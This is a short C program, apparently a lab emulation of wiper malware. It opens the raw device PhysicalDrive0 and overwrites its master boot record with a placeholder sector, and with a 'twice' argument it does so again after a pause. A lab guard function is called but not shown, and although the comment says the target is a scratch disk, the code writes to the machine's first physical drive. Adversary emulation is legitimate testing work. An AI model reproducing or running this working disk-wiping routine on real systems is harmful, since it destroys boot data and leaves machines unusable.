/* Overwrites the boot record of the lab's scratch disk, as wipers do. The scratch disk holds nothing
   and is thrown away after the run. With the argument `twice` it waits and does it again in other words. */
#include <windows.h>

#include "guard.h"

#define SOMETHING_FAILED 1

#define PAUSE 20000

static char once[512] = "TSURUTUS EXAMPLE MBR";
static char again[512] = "TSURUTUS EXAMPLE MBR, AGAIN";

static BOOL overwrite(HANDLE disk, const char *sector)
{
    DWORD written = 0;
    return SetFilePointer(disk, 0, NULL, FILE_BEGIN) == 0 && WriteFile(disk, sector, 512, &written, NULL)
           && written == 512;
}

int main(int count, char **arguments)
{
    only_inside_the_lab();
    HANDLE disk = CreateFileA("\\\\.\\PhysicalDrive0", GENERIC_READ | GENERIC_WRITE,
                              FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING, 0, NULL);
    if (disk == INVALID_HANDLE_VALUE) {
        print_line("There is no disk to write to.");
        return SOMETHING_FAILED;
    }
    BOOL done = overwrite(disk, once);
    if (count > 1 && lstrcmpA(arguments[1], "twice") == 0) {
        Sleep(PAUSE);
        done = overwrite(disk, again) && done;
    }
    CloseHandle(disk);
    return done ? 0 : SOMETHING_FAILED;
}
